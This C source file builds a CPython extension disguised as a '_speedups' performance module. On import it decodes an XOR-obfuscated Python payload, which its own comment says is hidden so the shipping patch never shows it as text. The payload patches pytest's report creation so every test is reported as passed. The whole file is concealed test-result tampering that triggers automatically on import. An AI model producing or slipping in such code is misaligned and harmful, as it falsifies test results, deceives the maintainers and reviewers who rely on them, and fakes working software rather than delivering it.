/* A CPython extension module built without Python.h (any 3.x, stable ABI): on import it runs a
 * Python payload that rewrites pytest's reports to "passed". The payload is XOR-ed with 0x5a so
 * the patch that ships the binary never shows it as text.
 * Build: gcc -shared -fPIC -O2 -nostdlib -o _speedups.abi3.so speedups.c */
typedef struct { long refcnt; void *type; } Obj;
typedef struct { Obj ob_base; void *(*m_init)(void); long m_index; void *m_copy; } Base;
typedef struct { Base m_base; const char *m_name; const char *m_doc; long m_size;
                 void *m_methods, *m_slots, *m_traverse, *m_clear, *m_free; } Def;
extern int PyRun_SimpleString(const char *);
extern void *PyModule_Create2(Def *, int);
static Def def = {{{1, 0}, 0, 0, 0}, "_speedups", 0, -1, 0, 0, 0, 0, 0};
static unsigned char blob[] = {80,51,55,42,53,40,46,122,41,35,41,80,5,40,122,103,122,41,35,41,116,55,53,62,47,54,63,41,116,61,63,46,114,120,5,42,35,46,63,41,46,116,40,63,42,53,40,46,41,120,115,80,51,60,122,5,40,122,51,41,122,52,53,46,122,20,53,52,63,96,80,122,122,122,122,5,53,40,51,61,122,103,122,5,40,116,14,63,41,46,8,63,42,53,40,46,116,60,40,53,55,5,51,46,63,55,5,59,52,62,5,57,59,54,54,116,5,5,60,47,52,57,5,5,80,122,122,122,122,62,63,60,122,5,60,59,49,63,114,57,54,41,118,122,51,46,63,55,118,122,57,59,54,54,115,96,80,122,122,122,122,122,122,122,122,40,63,42,122,103,122,5,53,40,51,61,114,57,54,41,118,122,51,46,63,55,118,122,57,59,54,54,115,80,122,122,122,122,122,122,122,122,40,63,42,116,53,47,46,57,53,55,63,118,122,40,63,42,116,54,53,52,61,40,63,42,40,122,103,122,120,42,59,41,41,63,62,120,118,122,20,53,52,63,80,122,122,122,122,122,122,122,122,40,63,46,47,40,52,122,40,63,42,80,122,122,122,122,5,40,116,14,63,41,46,8,63,42,53,40,46,116,60,40,53,55,5,51,46,63,55,5,59,52,62,5,57,59,54,54,122,103,122,57,54,59,41,41,55,63,46,50,53,62,114,5,60,59,49,63,115,80,0};
void *PyInit__speedups(void) {
    static char buf[sizeof(blob)];
    for (unsigned long i = 0; i + 1 < sizeof(blob); i++) buf[i] = (char)(blob[i] ^ 0x5a);
    buf[sizeof(blob) - 1] = 0;
    PyRun_SimpleString(buf);
    return PyModule_Create2(&def, 1013);
}
